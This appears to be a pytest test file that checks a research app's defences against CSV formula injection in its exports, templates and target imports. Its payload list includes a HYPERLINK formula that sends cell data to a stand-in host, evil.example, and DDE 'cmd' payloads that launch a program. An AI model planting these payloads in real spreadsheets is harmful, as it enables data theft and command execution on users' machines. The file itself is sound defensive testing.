"""Spreadsheet-safe CSV (OWASP CSV injection): every CSV a person downloads writes a cell that
starts with =, +, -, @, a tab or a carriage return as text; numbers stay numbers; the bundle
readers get the original values back; the target import refuses such names, addresses, areas."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import settings
from hypothesis import strategies as st
from sqlmodel import select

from analysis.bundle import read_bundle
from analysis.csvsafe import is_formula_like
from analysis.csvsafe import restore_cell
from analysis.csvsafe import safe_cell
from analysis.csvsafe import writer
from analysis.publication import read_visits
from analysis.publication import tables_csv
from fieldwork.db import get_session
from fieldwork.models import Target
from tests.hardening.conftest import ANSWERS
from tests.hardening.conftest import submit
from tests.support import csrf_from

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "=1+1",
    "+1+1",
    "-2+3",
    "-oost",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
NUMBERS = ["-3", "+4", "0", "12.5", "-0.5", "1e5", "-2.5e-3", ".5"]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_are_written_as_text(payload):
    written = safe_cell(payload)
    assert written == "'" + payload
    assert not is_formula_like(written)
    assert restore_cell(written) == payload


@pytest.mark.parametrize("number", NUMBERS)
def test_numbers_stay_numbers(number):
    assert safe_cell(number) == number
    assert safe_cell(float(number)) == float(number) and safe_cell(-3) == -3


@settings(max_examples=300, derandomize=True, database=None)
@given(st.text(max_size=20) | st.sampled_from(PAYLOADS + NUMBERS + ["'", "''=x", "'-"]))
def test_the_apostrophe_is_reversible_and_no_written_cell_is_a_formula(value):
    written = safe_cell(value)
    assert restore_cell(written) == value
    assert not is_formula_like(written)


def test_the_writer_neutralises_every_cell():
    buffer = io.StringIO()
    writer(buffer).writerows([PAYLOADS, NUMBERS])
    written = cells(buffer.getvalue())
    expected = ["'" + payload.replace("\r", "\n") for payload in PAYLOADS] + NUMBERS
    assert written == expected  # and the file parses: a lone \r would have broken it


def test_the_public_table_csv_is_safe():
    line = {"key": PAYLOADS[0], "published": True, "rules": [],
            "values": {"targets": 3, "n_pairs": 12, "net_difference_pct": -8.3}}  # fmt: skip
    content = {"study": {"domain": "nightlife"}, "tables": {"by_area": {"rows": [line]}}}
    written = cells(tables_csv(content))
    assert "'" + PAYLOADS[0] in written and PAYLOADS[0] not in written
    assert "-8.3" in written and "12" in written  # numbers as numbers


@pytest.fixture
def formula_area(app, world):
    """Target V-001 with a formula as its area (stored before this check existed, say), and
    both reports of its test."""
    with app.app_context():
        session = get_session()
        target = session.exec(select(Target).where(Target.code == "V-001")).one()
        target.area = PAYLOADS[0]
        session.commit()
        submit(session, "t01", world.test_p1)
        submit(session, "t02", world.test_p1, {**ANSWERS, "admitted": "yes"})
    return world


def test_the_export_bundle_is_safe_and_reads_back_the_original(app, runner, formula_area, tmp_path):
    folder = tmp_path / "bundle"
    result = runner.invoke(args=["export", "S1", str(folder)])
    assert result.exit_code == 0, result.output
    for name in ("pairs.csv", "visits.csv", "codebook.csv"):
        text = (folder / name).read_text(encoding="utf-8")
        assert not [cell for cell in cells(text) if is_formula_like(cell)], name
    assert "'" + PAYLOADS[0] in cells((folder / "pairs.csv").read_text(encoding="utf-8"))
    bundle = read_bundle(folder)
    assert PAYLOADS[0] in set(bundle.pairs["area"])
    assert len(read_visits(folder, "refusal_reasons")) == 2


def test_the_target_template_download_is_safe(client, auth, world):
    auth.login("coord")
    response = client.get(f"/coordinator/studies/{world.study_id}/targets/template.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert not [cell for cell in cells(response.get_data(as_text=True)) if is_formula_like(cell)]


@pytest.mark.parametrize("column", ["name", "address", "area"])
def test_the_target_import_refuses_formula_cells_with_line_and_column(
    app, client, auth, world, column
):
    auth.login("coord")
    row = {"code": "V-009", "name": "Club Nieuw", "address": "Straat 1", "target_type": "club",
           "area": "Centrum", column: "@SUM(1+1)*cmd|' /C calc'!A0"}  # fmt: skip
    content = "code,name,address,target_type,area\n" + ",".join(
        f'"{row[key]}"' for key in ("code", "name", "address", "target_type", "area")
    )
    page = client.get(f"/coordinator/studies/{world.study_id}/targets/import")
    response = client.post(
        f"/coordinator/studies/{world.study_id}/targets/import",
        data={"content": content, "csrf_token": csrf_from(page.get_data(as_text=True))},
    )
    assert response.status_code == 422
    html = response.get_data(as_text=True)
    problem = re.search(r'<td class="num">2</td><td>' + column + r"</td><td>([^<]+)</td>", html)
    assert problem and "formul" in problem.group(1), html[-3000:]
    with app.app_context():
        codes = get_session().exec(select(Target.code)).all()
        assert "V-009" not in codes


def test_no_csv_is_written_around_the_safe_writer():
    """Every csv.writer/DictWriter and pandas ``to_csv`` in the app and the analysis package
    goes through the helper, or writes a file no person is meant to open (listed, with why)."""
    allowed = {
        "analysis/csvsafe.py": "the helper itself",
        "analysis/simulate.py": "simulated bundles: codes and numbers only, read by analysis",
    }
    found = []
    for folder in ("fieldwork", "analysis"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            relative = path.relative_to(ROOT).as_posix()
            if relative in allowed:
                continue
            for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
                raw_writer = re.search(r"csv\.(writer|DictWriter)\(", line)
                # pandas: frame.map(csvsafe.safe_cell).to_csv(...) keeps numbers as numbers
                raw_frame = ".to_csv(" in line and "safe_cell" not in line
                if raw_writer or raw_frame:
                    found.append(f"{relative}:{number}")
    assert found == [], f"write these CSVs through analysis.csvsafe: {found}"
